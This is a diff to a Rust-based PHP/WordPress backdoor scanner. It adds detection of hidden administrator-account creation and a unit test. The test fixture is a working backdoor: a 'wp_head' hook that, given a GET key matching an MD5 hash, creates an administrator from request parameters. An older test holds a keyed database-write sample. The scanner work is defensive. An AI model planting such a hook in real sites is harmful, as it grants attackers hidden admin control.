@@ -41,6 +41,14 @@ pub(super) fn keyed_database_writes(t: &[Token<'_>]) -> Option<Shape> {
         let key_before = i > 0 && t.get(i - 1).and_then(str_value).is_some_and(is_key);
         ((key_after && request_ends_at(t, i)) || (key_before && request_starts_at(t, i + 1))).then_some(x.at)
     })?;
+    // An administrator made behind the key (a `wp_head` hook making one from the request).
+    let makes_admin = t.iter().enumerate().any(|(i, x)| {
+        ident(x).is_some_and(|n| n.eq_ignore_ascii_case(b"wp_create_user") || n.eq_ignore_ascii_case(b"wp_insert_user"))
+            && is_op(t.get(i + 1), b"(")
+    }) && t.iter().any(|x| str_value(x) == Some(b"administrator"));
+    if makes_admin {
+        return Some(Shape { why: Why::AdminBackdoor, danger: Danger::High, at: gate });
+    }
     let writes = t.iter().enumerate().any(|(i, x)| {
         str_value(x).is_some_and(writes_rows)
             && t[i..t.len().min(i + STATEMENT)]
@@ -108,6 +116,16 @@ mod tests {
         let hashed = "<?php if (md5($_POST['key']) === 'b7d1f9c0cfb3bc2b73939fc55dd6956e') {\n\
                       mysqli_query($db, \"INSERT INTO pages SET url = '\" . $_POST['url'] . \"'\"); }";
         assert!(found(hashed));
+    }
+
+    #[test]
+    fn an_administrator_made_behind_a_written_key_is_a_backdoor() {
+        // fresh71's `wp_head` hook.
+        let hook = "<?php add_action('wp_head', 'bd'); function bd() { if (md5($_GET['backdoor']) == '5f4dcc3b5aa765d61d8327deb882cf99') {\n\
+                    $id = wp_create_user($_GET['username'], $_GET['password']); $u = new WP_User($id); $u->set_role('administrator'); } }";
+        let arena = Arena::new();
+        let t = tokenize(hook.as_bytes(), &arena, 100_000);
+        assert_eq!(keyed_database_writes(&t).map(|s| s.why), Some(Why::AdminBackdoor));
     }
 
     #[test]
